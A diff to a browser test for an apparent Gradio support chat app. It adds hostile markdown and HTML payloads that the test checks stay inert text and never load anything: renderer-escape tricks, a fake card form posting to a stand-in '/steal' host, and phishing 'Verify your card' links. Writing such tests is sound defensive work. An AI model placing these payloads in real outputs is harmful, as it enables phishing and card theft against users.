@@ -31,7 +31,24 @@ PAYLOADS = [
     f'| `a | <video poster="{OUTSIDE}/poster.png"></video> ` |\n|---|---|',
     f'<form action="{OUTSIDE}/steal"><input name=card placeholder="Card number"><button>Pay</button></form>',
     f'<div style="position:fixed;inset:0">Session expired</div> [Verify card]({OUTSIDE}/verify)',
+    # a second round against marked itself: Gradio's mermaid blocks, GFM's "~" and
+    # strikethrough, emphasis closing inside a double-backtick span, addresses mid-word,
+    # e-mails, and Gradio's cleandoc re-indenting a message after it was made inert
+    f"```mermaid\n<img src={OUTSIDE}/mermaid.png><a href={OUTSIDE}/m>pay</a>\n```",
+    f"```mermaid\nx```\n<img src={OUTSIDE}/mermaid-close.png>\n```",
+    f"~`<img src={OUTSIDE}/tilde.png>`",
+    f"~a`<a href={OUTSIDE}/del>pay here</a>~`",
+    f"*a ``x* <img src={OUTSIDE}/em.png> y``",
+    "xhttps://outside.invalid/login and 1www.outside.invalid",
+    f"xhttps://outside.invalid/`<img src={OUTSIDE}/u.png>`",
+    "write to evil@outside.invalid or <evil@outside.invalid>",
+    f"```\n\t```\n\t<img src={OUTSIDE}/tab.png>",
 ]
+#: what the person sends: markup, and a reply indented so that Gradio's cleandoc would turn
+#: a line that is no fence into one
+AGENT = (
+    f"   ```\n    ```\n   <img src={OUTSIDE}/indent.png>\n   <a href={OUTSIDE}/x>Verify your card</a>\n   ```"
+)
 
 #: elements a message bubble must never hold
 _LIVE = """() => [...document.querySelectorAll('#chatbot .prose')]
@@ -52,10 +69,12 @@ def test_hostile_markup_from_either_side_stays_text(
     outside: list[str] = []
     customer = open_page(browser, app.local_url, CUSTOMER)
     customer.context.on("request", lambda r: outside.append(r.url) if "outside.invalid" in r.url else None)
-    bubbles = customer.locator("#chatbot .message-row")
+    # (a message may hand the conversation to a person, whereupon the model stays silent:
+    # each is waited for as sent, not as answered)
+    sent = customer.locator("#chatbot [data-testid=user]")
     for n, payload in enumerate(PAYLOADS, start=1):
         send(customer, payload)
-        wait_for(lambda: bubbles.count() >= 2 * n and "…" not in chat_text(customer), what="a reply")  # noqa: B023
+        wait_for(lambda: sent.count() >= n and app.pipeline.active_streams == 0, what="the message")  # noqa: B023
     # a person answers with the same markup (their reply is drawn by the same code)
     send(customer, "I want to talk to a person")
     operator = open_page(browser, app.local_url, OPERATOR)
@@ -63,7 +82,10 @@ def test_hostile_markup_from_either_side_stays_text(
     open_listed(operator, "#escalation-queue", "nested")
     operator.locator("#take").click()
     wait_for(lambda: "maria" in operator.locator("#owner-info textarea").input_value(), what="taken")
-    operator.locator("#agent-text textarea").fill(PAYLOADS[-1] + "\n\n" + PAYLOADS[4])
+    operator.locator("#agent-text textarea").fill(AGENT)
+    operator.locator("#agent-send").click()
+    wait_for(lambda: "Verify your card" in chat_text(customer), what="the person's first reply")
+    operator.locator("#agent-text textarea").fill(PAYLOADS[10] + "\n\n" + PAYLOADS[4])
     operator.locator("#agent-send").click()
     wait_for(lambda: "Session expired" in chat_text(customer), what="the person's reply")
     customer.wait_for_timeout(1000)  # anything that would load has asked by now
@@ -73,7 +95,7 @@ def test_hostile_markup_from_either_side_stays_text(
     assert outside == []
     shown = chat_text(customer)
     # ... and the words are all there, as text
-    for words in ("Card number", "Session expired", "Verify card", f"{OUTSIDE}/verify", "<form", "<img src="):
+    for words in ("Card number", "Session expired", "Verify card", "<form", "<img src=", "evil@"):
         assert words.replace("http://", "http://\u2060") in shown or words in shown, words
     # a screen reader reads each message as written: not the escapes that keep it inert
     names = customer.eval_on_selector_all(
